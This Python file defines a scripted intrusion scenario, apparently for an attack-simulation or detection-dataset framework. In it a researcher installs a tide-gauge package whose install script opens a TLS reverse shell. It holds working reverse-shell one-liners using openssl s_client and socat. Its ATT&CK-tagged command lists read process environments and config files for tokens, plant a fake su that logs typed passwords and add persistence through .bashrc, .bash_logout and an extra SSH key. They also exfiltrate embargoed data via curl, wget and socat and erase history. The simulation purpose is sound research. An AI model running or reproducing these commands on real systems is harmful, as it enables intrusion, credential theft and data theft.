"""A scientist installs a package from a colleague's link; its install script opens a TLS channel to a stranger."""

from __future__ import annotations

import ssl
import subprocess
import tempfile
import threading
from pathlib import Path
from socket import create_server
from typing import TYPE_CHECKING

import terminal
from plot import Storyline, Visit
from storylines import _packages
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 5580

WEAKEN = r"""
set -e
mkdir -p /opt/tideboard
cat > /opt/tideboard/board.py <<'EOF'
# Shows the next high water; the token opens the publisher's service.
import math
import os
import time

import appserver


def handle(method, path, query, body, headers):
    if path == "/tide":
        now = time.time() / 44712
        return 200, f"{math.sin(now):.3f} m, next high water in {(1 - now % 1) * 12.42:.1f} h\n"
    return (200, f"publisher token set: {'BOARD_TOKEN' in os.environ}\n") if path == "/state" else (404, "?\n")


appserver.serve(5580, handle, "tideboard")
EOF
cat > /opt/tideboard/lease.py <<'EOF'
# Keeps a place in the queue of the big machine.
import time

while True:
    time.sleep(30)
EOF
for who in hvermeer oduarte; do
    getent passwd "$who" >/dev/null || continue
    mkdir -p "/home/$who/.config/tides"
    printf '[publisher]\nurl=https://papers.example\nuser=%s\nkey=ab-11-cd-58-sample\n' "$who" \
        > "/home/$who/.config/tides/publisher.ini"
    chown -R "$who:$who" "/home/$who/.config"; chmod 600 "/home/$who/.config/tides/publisher.ini"
done
"""

SNOOP = r"""
== no traces | TA0005 | The shell is told to keep no history.
T1562.003 unset HISTFILE; set +o history; cd
== look round | TA0007 | A person's machine account: files, groups, programs, data.
T1033 id; who
T1083 ls -la ~ ~/.config ~/.ssh
? T1082 lscpu | head -5; uname -rv
T1057 ps -u $USER -o pid,ppid,etime,cmd
T1069.001 id -Gn; getent group estuary
? T1518 pip list 2>/dev/null | head -12
T1083 ls -la /srv/estuary /srv/estuary/embargo
== secrets of processes | TA0006 | Settings that stand in the environment of running programs.
T1003.007 for p in $(pgrep -u $USER); do tr '\0' '\n' < /proc/$p/environ 2>/dev/null | grep -iE\
 'token|passw|secret'; done
T1003.007 tr '\0' '\n' < /proc/$(pgrep -u oduarte -f lease.py)/environ
T1055.008 gdb -q -nx -batch -p $(pgrep -u hvermeer -f board.py) -ex 'info threads' -ex detach 2>&1 | tail -4
T1003.007 gcore -o /tmp/{word} $(pgrep -u hvermeer -f board.py) 2>&1 | tail -2
? T1055.008 strace -f -e trace=read -o /tmp/{word}.st -p $(pgrep -u oduarte -f lease.py) & sleep 3; kill %1
T1552.001 cat ~/.config/tides/publisher.ini
T1552.003 tail -n 40 ~/.bash_history
"""

SNOOP_RUBY = r"""
== look round | TA0007 | A person's account, looked at by somebody with time.
T1033 cd; mkdir -p ~/.cache; whoami; groups
T1082 ruby -v; uname -rm; nproc
T1083 ls -A ~
T1018 grep -v localhost /etc/hosts
T1016 ip -o -4 addr; ip route | head -3
? T1049 ss -tn state established
T1057 pgrep -a -u $USER
T1213 git -C ~ config --global --list; ls ~/*/.git -d
== secrets of processes | TA0006 | The environment of each process, and an attempt to attach to one.
T1003.007 ruby -e 'Dir["/proc/[0-9]*/environ"].each{|f| s=File.read(f) rescue next; puts f,\
 s.split("\0").grep(/TOKEN|KEY|PASS/)}'
T1003.007 strings -n 8 /proc/$(pgrep -u oduarte -f lease.py)/environ
T1055.008 ltrace -p $(pgrep -u oduarte -f lease.py)
T1055.008 timeout 4 strace -qq -p $(pgrep -u oduarte -f lease.py) 2>&1 | head -4
T1055.008 printf 'attach %s\nx/s $rsp\ndetach\n' $(pgrep -u hvermeer -f board.py) > ~/.cache/{word}.gdb;\
 gdb -nx -batch -x ~/.cache/{word}.gdb
T1552.001 grep -rns key ~/.config ~/.netrc ~/.pgpass ~/.my.cnf
== what is typed | TA0009 | A su of its own, first in the path, writes down what is typed.
T1056.001 install -d ~/.local/bin; printf '#!/bin/sh\nexec script -qaf -c "/usr/bin/su $*" ~/.cache/{word}.log\n'\
 > ~/.local/bin/su
T1222.002 chmod 755 ~/.local/bin/su
T1056.001 @plant /home/{who}/.local/bin/su
T1056.001 script -qc 'ls -l .local/bin' ~/.cache/{word}.log
"""

STAY_LOGIN = r"""
== each login | TA0003 | A line in the settings of the shell starts a small program, another keeps more history.
T1105 mkdir -p ~/.local/share/tidefit; curl -fsS {depot}/{file} -o ~/.local/share/tidefit/{file}
T1222.002 chmod u+x ~/.local/share/tidefit/{file}
T1546.004 @plant /home/{who}/.local/share/tidefit/{file}
T1546.004 echo '( ~/.local/share/tidefit/{file} & ) 2>/dev/null' >> ~/.bashrc
T1056.001 echo 'PROMPT_COMMAND="history -a"' >> ~/.bashrc
T1070.006 touch -r ~/.profile ~/.bashrc
== embargoed data | TA0009 | What is not out yet is packed.
T1005 cp -r /srv/estuary/embargo /tmp/{word}.d
T1560.001 tar -C /tmp -cJf /tmp/{word}.txz {word}.d; ls -l /tmp/{word}.txz
T1560.001 openssl enc -chacha20 -pbkdf2 -pass pass:{word}4 -in /tmp/{word}.txz -out /tmp/{word}.bin
== out | TA0010 | Through the channel itself, and once more over HTTP.
T1041 openssl base64 -in /tmp/{word}.bin | head -n 60
T1048.003 curl -sS -F 'plot=@/tmp/{word}.bin;type=image/png' {depot}/plots
== tidy | TA0005 | Copies go.
T1070.004 rm -rf /tmp/{word}.*
? T1070.004 rm -rf ~/.cache/pip
"""

STAY_LOGOUT = r"""
== each farewell | TA0003 | The shell's farewell script starts a program that asks for work.
T1105 ruby -ropen-uri -e 'File.write(File.expand_path("~/.local/bin/{file}"), URI("{depot}/{file}").read, perm: 0755)'
T1546.004 @plant /home/{who}/.local/bin/{file}
T1546.004 printf '%s\n' '~/.local/bin/{file} >/dev/null 2>&1' >> ~/.bash_logout
? T1546.004 bash -n ~/.bash_logout
== measurements | TA0009 | Gauges and sequences are read with the tools of the place.
T1083 find /srv/estuary -newermt 2026-01-01 -type f | wc -l
T1005 find /srv/estuary/embargo /srv/estuary/seq -type f -size -200k -exec cat {} + > ~/.cache/{word}.txt
? T1213.006 mariadb -e 'show databases'
T1560.001 zip -q -P {word}71 ~/.cache/{word}.zip ~/.cache/{word}.txt
T1560.001 bzip2 -k ~/.cache/{word}.txt; ls -l ~/.cache | tail -3
== out | TA0010 | Piece by piece through a pipe of socat.
T1030 split -b 20k -a 2 ~/.cache/{word}.txt.bz2 ~/.cache/{word}.p
T1048.003 for p in ~/.cache/{word}.p??; do (printf 'POST /t HTTP/1.0\r\nContent-Length: %s\r\n\r\n' $(stat -c %s\
 $p); cat $p) | socat -t3 - TCP:{gate} | tail -1; sleep 1; done
== tidy | TA0005 | Pieces go; history forgets.
T1070.004 find ~/.cache -name '{word}.*' -delete
T1070.003 sed -i '/gem install/d' ~/.bash_history
T1033 exit
"""

FEW = r"""
== look round | TA0007 | Few commands, as a colleague who helps with an installation would type.
T1033 cd; id
T1082 uname -a; uptime
T1083 ls -l ~ /srv/estuary
T1016 ip -br a; hostname -I
T1049 ss -t | head -5
T1057 top -b -n 1 | head -14
T1680 df -h /srv /home
T1654 tail -n 5 ~/.bash_history
? T1518 perl -v | sed -n 2p; gcc --version | head -1
T1083 cat ~/.profile | tail -5
T1087.001 getent passwd | tail -6
== secrets of processes | TA0006 | One look at the environment of one program, and one try with the debugger.
T1003.007 xargs -0 -n1 < /proc/$(pgrep -u hvermeer -f board.py)/environ
T1055.008 gdb -p $(pgrep -u hvermeer -f board.py) -batch -ex bt
T1003.007 cat /proc/$(pgrep -u oduarte -f lease.py)/environ
T1552.001 less -FX ~/.config/tides/publisher.ini
T1552.004 ls -l ~/.ssh
== a key | TA0003 | One more key among those of the person.
T1098.004 echo '{public}' >> ~/.ssh/authorized_keys
T1222.002 chmod 600 ~/.ssh/authorized_keys
== embargoed data | TA0009 | One table.
T1083 cd /srv/estuary/embarg
T1083 ls -lR /srv/estuary/embargo
T1005 head -3 /srv/estuary/embargo/dredging-12.csv; wc -l /srv/estuary/embargo/*
T1560.001 gzip -c /srv/estuary/embargo/dredging-12.csv > ~/{word}.csv.gz
== out | TA0010 | The table is uploaded as one would to a colleague.
T1048.003 wget -q -O- --method=PUT --body-file=$HOME/{word}.csv.gz {depot}/share/{word}.csv.gz
T1070.004 rm ~/{word}.csv.gz
? T1033 last -n 2
"""

LINES = (
    "f=$(mktemp -u); mkfifo $f; bash -i <$f 2>&1 | openssl s_client -quiet -connect AT >$f 2>/dev/null; rm -f $f",
    "exec socat OPENSSL:AT,verify=0 EXEC:'bash -i',pty,stderr,setsid,sane",
    "coproc openssl s_client -quiet -connect AT 2>/dev/null; exec bash -i <&${COPROC[0]} >&${COPROC[1]} 2>&1",
)
FILES = (("harmonics", "fitcheck"), ("gauge-sync", "irb-update"), ("none",))


def certificate(folder: str) -> ssl.SSLContext:
    words = f"-x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=papers.example -keyout {folder}/k -out {folder}/c"
    subprocess.run(["openssl", "req", *words.split()], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{folder}/c", f"{folder}/k")
    return context


def catch_tls(own: Intruder, port: int, person: str, command: str) -> Shell:
    """As `own.catch`, but the shell comes back inside TLS out of a package that a person installs."""
    from intruder import Lost, Shell

    with tempfile.TemporaryDirectory() as folder, create_server((own.address, port)) as listener:
        context = certificate(folder)
        luring = threading.Thread(target=own.lure, args=(own.entry, person, command, "T1204.005"), daemon=True)
        luring.start()
        listener.settimeout(180)
        try:
            raw, peer = listener.accept()
        except TimeoutError:
            raise Lost("the package did not call back") from None
        with own.act("catch", f"TLS on {own.address}:{port}", "T1573.002", own.entry) as facts:
            own._sessions += 1
            holder = own.control.owner(*peer[:2])
            facts |= {"session": own._sessions, "pid": holder if own.variant == 1 else leader(holder)}
            raw.settimeout(10)
            conn = context.wrap_socket(raw, server_side=True)
            conn.settimeout(0.5)  # never blocks inside TLS: one thread reads while another writes
            at = terminal.Terminal(lambda: patient(conn), conn.sendall)
            at.hang_up = conn.close  # type: ignore[method-assign]
            at.blind = not at.wait(4)
            facts["shown"] = at.seen()
        session = own._sessions
    luring.join(90)
    return Shell(own, own.entry, at, session)


def leader(pid: int) -> int:
    """The first process of a process's session: openssl holds the connection, but is not above the shell."""
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[3]) if pid else 0


def patient(conn: ssl.SSLSocket) -> bytes:
    while True:
        try:
            return conn.recv(65536)
        except TimeoutError:
            continue


def offered(own: Intruder, line: str) -> str:
    """Put the package on the intruder's server; returns what the person will type."""
    if own.variant == 0:
        name, version = own.pick((("tidefit", "0.4.2"), ("harmonix", "1.1.0")))
        url = own.offer(f"{name}-{version}.tar.gz", _packages.sdist(name, version, line))
        return f"python3 -m venv ~/.venvs/{name} && ~/.venvs/{name}/bin/pip install --disable-pip-version-check {url}"
    if own.variant == 1:
        name = own.pick(("tideline", "seiche"))
        url = own.offer(f"{name}-0.3.1.gem", _packages.gem(name, "0.3.1", line))
        return f"curl -sSO {url} && gem install --user-install --no-document --local {name}-0.3.1.gem"
    url = own.offer("Tide-Predict-1.07.tar.gz", _packages.perl_archive("1.07", line))
    return (
        f"wget -q {url} && tar xzf Tide-Predict-1.07.tar.gz && (cd Tide-Predict-1.07 && perl Makefile.PL && make test)"
    )


def play(own: Intruder) -> None:
    middle = (3.0, 8.0, 26.0)[own.variant]
    person = ("hvermeer", "oduarte", "hvermeer")[own.variant]
    port = (993, 5061, 6697)[own.variant]
    file = own.pick(FILES[own.variant])
    own.offer(file, f"#!/bin/sh\nsleep 2\nwget -q -T 4 -O /dev/null {own.depot}/fit?v=$(id -u) || true\n")
    names = {"depot": own.depot, "gate": own.depot.removeprefix("http://"), "who": person, "file": file}
    names |= {
        "word": a_name(own),
        "public": f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'VGlkZUV4YW1wbGVz' * 3}Abc {person}",
    }
    if ":" not in names["gate"]:
        names["gate"] += ":80"
    own.step("a package", "TA0002", "A scientist follows a link and installs a package; its script starts by itself.")
    shell = catch_tls(own, port, person, offered(own, LINES[own.variant].replace("AT", f"{own.address}:{port}")))
    own.think(middle)
    page = (SNOOP + STAY_LOGIN, SNOOP_RUBY + STAY_LOGOUT, FEW)[own.variant]
    walk(own, page, shell, names, middle)
    shell.close()


STORYLINE = Storyline(
    name="gem-hook",
    split="test",
    words="A scientist installs a package for tide gauges from a stranger's server: a Python archive, a gem or a Perl "
    "archive. Its install script opens a shell inside TLS. The intruder reads the environment of processes, tries to "
    "attach to them, stays in the shell's settings and carries embargoed data away.",
    weaken=WEAKEN,
    services=(
        "hvermeer: /usr/bin/env BOARD_TOKEN=bt-4410-sample /usr/bin/python3 /opt/tideboard/board.py",
        "oduarte: /usr/bin/env LEASE_KEY=lk-97-sample /usr/bin/python3 /opt/tideboard/lease.py",
    ),
    visits=(Visit(PORT, 45, path="/tide?station={n}"), Visit(PORT, 100, path="/{pick:state|tide|map}")),
    play=play,
    hosts=("atlas-11",),
    minutes=15,
)
